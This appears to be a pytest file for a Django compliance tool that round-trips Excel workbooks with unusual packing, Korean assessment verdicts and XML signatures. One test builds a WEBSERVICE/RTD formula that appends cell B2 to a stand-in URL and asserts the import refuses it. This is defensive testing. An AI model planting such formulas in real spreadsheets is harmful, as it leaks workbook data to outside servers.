"""Workbooks whose packing is unusual and within the standard, or just outside of it."""

import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse
from django.utils.translation import override

from compliance.exchange import exporting, selectors
from compliance.requirements.models import Assessment
from compliance.shared.errors import Refused
from tests.exchange import packed

PACKED = {
    "plain": packed.workbook(),
    "strict": packed.workbook(main=packed.STRICT, relations=packed.STRICT_RELATIONS),
    "no references": packed.workbook(packed.sheet(packed.rows(referenced=False))),
    "lower case references": packed.workbook(packed.sheet(packed.rows(lower=True))),
    "relative target": packed.workbook(target="worksheets/sheet1.xml"),
    "target with dots": packed.workbook(target="../xl/worksheets/sheet1.xml"),
    "target in other case": packed.workbook(target="worksheets/SHEET1.xml"),
    "upper case parts": packed.workbook(book="XL/Workbook.xml", part="XL/Worksheets/Sheet1.XML"),
    "another main part": packed.workbook(book="xl/workbook2.xml"),
    "comments between cells": packed.workbook(
        packed.sheet(packed.rows().replace("<is>", "<!-- x --><is>"))
    ),
}


@pytest.mark.parametrize("content", PACKED.values(), ids=PACKED)
def test_it_goes_in_and_comes_out_answered(bring, publish, manna, content):
    profile = publish(bring(content))
    Assessment.objects.filter(requirement__code="2").update(verdict="not_met")
    out = exporting.make(manna, profile, "form").content
    before, after = (zipfile.ZipFile(io.BytesIO(each)) for each in (content, out))
    [changed] = [name for name in before.namelist() if before.read(name) != after.read(name)]
    assert changed.lower() == "xl/worksheets/sheet1.xml"
    assert "부적합" in after.read(changed).decode()


def test_reading_aids_over_a_text_are_not_read(bring):
    text = "<r><t>방화</t></r><r><t>벽</t></r><rPh sb='0' eb='2'><t>ボウカヘキ</t></rPh>"
    content = packed.workbook(packed.sheet(packed.rows().replace("<t>방화벽을 둔다</t>", text)))
    assert selectors.reading(bring(content)).taken[0].title == "방화벽"


def test_a_package_that_does_not_say_what_it_holds(bring):
    with override("en"), pytest.raises(Refused, match="broken"):
        bring(packed.workbook(without=("_rels/.rels",)))


@pytest.mark.parametrize("name", ["WEBSERVICE", "_xlfn.WEBSERVICE", "rtd"])
def test_a_formula_that_asks_a_server_is_refused(bring, name):
    asks = f'<row r="9"><c r="A9"><f>{name}("http://x.example/"&amp;B2)</f><v>0</v></c></row>'
    with override("en"), pytest.raises(Refused, match="other files or programs"):
        bring(packed.workbook(packed.sheet(packed.rows() + asks)))


def test_a_word_that_only_contains_such_a_name_is_none(bring):
    asks = '<row r="9"><c r="A9"><f>"RTD("&amp;1</f><v>x</v></c></row>'
    assert bring(packed.workbook(packed.sheet(packed.rows() + asks)))


def test_the_filled_form_opens_elsewhere(bring, publish, manna):
    profile = publish(bring(PACKED["no references"]))
    Assessment.objects.filter(requirement__code="1").update(verdict="met")
    book = openpyxl.load_workbook(io.BytesIO(exporting.make(manna, profile, "form").content))
    assert book["점검표"]["C2"].value == "적합"


SIGNED = packed.workbook(
    add={
        "_xmlsignatures/origin.sigs": "",
        "_xmlsignatures/sig1.xml": '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/>',
    }
)


def test_a_signed_workbook_says_that_answers_end_the_signature(bring, publish, manna, browse, dave):
    imported = bring(SIGNED)
    with override("en"):
        assert ["signed" in str(note) for note in selectors.reading(imported).notes] == [True]
    profile = publish(imported)
    assert not exporting.make(manna, profile, "form").filled.unsigned
    Assessment.objects.filter(requirement__code="1").update(verdict="met")
    made = exporting.make(manna, profile, "form")
    assert made.filled.unsigned
    assert zipfile.ZipFile(io.BytesIO(made.content)).read("_xmlsignatures/sig1.xml")
    shown = browse(dave).get(reverse("exchange:export", args=[manna.slug, profile.identifier]))
    assert "서명" in shown.content.decode()
